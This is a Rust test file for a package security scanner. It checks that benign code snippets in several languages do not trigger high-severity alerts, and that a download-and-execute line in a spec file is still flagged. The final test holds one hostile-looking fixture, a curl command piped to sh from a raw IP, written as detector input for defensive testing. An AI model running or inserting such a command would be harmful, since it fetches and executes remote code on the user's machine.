//! Honest code that looks like the hostile kind.

mod common;

use common::{found, run};
use packguard_sdk::Severity;

#[test]
fn honest_code_is_quiet() {
    let cases = [
        (
            "lib/a.rb",
            "eval(File.read('x.gemspec'), binding, 'x.gemspec')",
        ),
        (
            "lib/a.rb",
            "class_eval <<-R, __FILE__, __LINE__ + 1\n  def #{name}\n    @#{name}\n  end\nR\n",
        ),
        (
            "lib/a.rb",
            "def fetch\n  Net::HTTP.post(URI(@url), JSON.dump(data), 'Authorization' => ENV['API_TOKEN'])\nend",
        ),
        (
            "lib/a.rb",
            "out = `git rev-parse HEAD`.strip\nsystem('make', 'install')",
        ),
        (
            "lib/a.rb",
            "obj.send(:initialize_copy, x)\nobj.public_send(name, *args)",
        ),
        ("lib/a.rb", "Base64.decode64(params[:signature]) == digest"),
        (
            "lib/a.rb",
            "def socket\n  @s ||= TCPSocket.new(host, port)\nend\ndef shell\n  system('bash', 'x.sh')\nend",
        ),
        (
            "ext/a/extconf.rb",
            "require 'mkmf'\nsystem('./configure') or abort\ncreate_makefile('a/a')",
        ),
        (
            "a.php",
            "<?php $x = base64_decode($row['data']); echo unserialize($x);",
        ),
        (
            "a.php",
            "<?php exec('git log ' . escapeshellarg($_GET['r']), $out);",
        ),
        (
            "a.php",
            "<?php include __DIR__ . '/views/' . $name . '.php'; call_user_func($handler, $_POST);",
        ),
        (
            "a.php",
            "<?php assert($x instanceof Foo); array_map('trim', $_POST);",
        ),
        (
            "a.go",
            "package a\nfunc Run() error { cmd := exec.Command(\"go\", \"build\", \"./...\")\n cmd.Env = append(os.Environ(), \"CGO_ENABLED=0\")\n return cmd.Run() }",
        ),
        (
            "a.go",
            "package a\nfunc Get(u string) ([]byte, error) { r, err := http.Get(u)\n if err != nil { return nil, err }\n return io.ReadAll(r.Body) }",
        ),
        (
            "a/build.rs",
            "fn main() { let out = env::var(\"OUT_DIR\").unwrap();\n Command::new(\"cc\").args(&[\"-c\", \"a.c\"]).status().unwrap();\n println!(\"cargo:rustc-link-search={}\", out); }",
        ),
        (
            "a/build.rs",
            "fn main() { let v = Command::new(env::var(\"RUSTC\").unwrap()).arg(\"--version\").output(); }",
        ),
        (
            "a/src/lib.rs",
            "fn get() { let t = env::var(\"GITHUB_TOKEN\").unwrap(); Client::new().get(\"https://api.example.com\").header(\"Authorization\", t).send(); }",
        ),
        (
            "A.java",
            "class A { void f() { Class.forName(name).getMethod(\"run\").invoke(null); new ProcessBuilder(\"java\", \"-jar\", p).start(); } }",
        ),
        (
            "A.java",
            "class A { byte[] f(String s) { return Base64.getDecoder().decode(s); } }",
        ),
        (
            "A.cs",
            "class A { void F() { Process.Start(\"notepad.exe\", path); var a = Assembly.LoadFrom(path); } }",
        ),
        (
            "a.c",
            "int f() { system(\"clear\"); int s = socket(2,1,0); return connect(s, a, l); }",
        ),
        (
            "a.lua",
            "local f = io.popen('uname -s')\nlocal m = load('return 1')",
        ),
        (
            "a.pl",
            "my $x = `uname -a`; eval { die 1 }; system('make', 'test');",
        ),
        (
            "test/a_test.rb",
            "eval(Base64.decode64('cHV0cyAxIHB1dHMgMSBwdXRzIDE='))",
        ),
        ("README.md", "eval(Base64.decode64('cHV0cyAx'))"),
    ];
    for (path, code) in cases {
        let analysis = run(path, code);
        let grave: Vec<_> = found(&analysis)
            .into_iter()
            .filter(|(_, severity)| *severity >= Severity::High)
            .map(|(rule, severity)| (rule.to_owned(), severity))
            .collect();
        assert!(grave.is_empty(), "{path}: {code}\n{grave:?}");
        let quiet = path.contains("test")
            || found(&analysis)
                .iter()
                .all(|(_, severity)| *severity < Severity::Medium);
        assert!(quiet, "{path}: {code}\n{:?}", found(&analysis));
        assert_eq!(analysis.problems(), [], "{path}");
    }
}

#[test]
fn tests_weigh_less_and_are_not_ignored() {
    let code = "system('curl http://203.0.113.5/x | sh')";
    let analysis = run("spec/a_spec.rb", code);
    assert!(found(&analysis).contains(&("source-download-execute", Severity::Medium)));
}
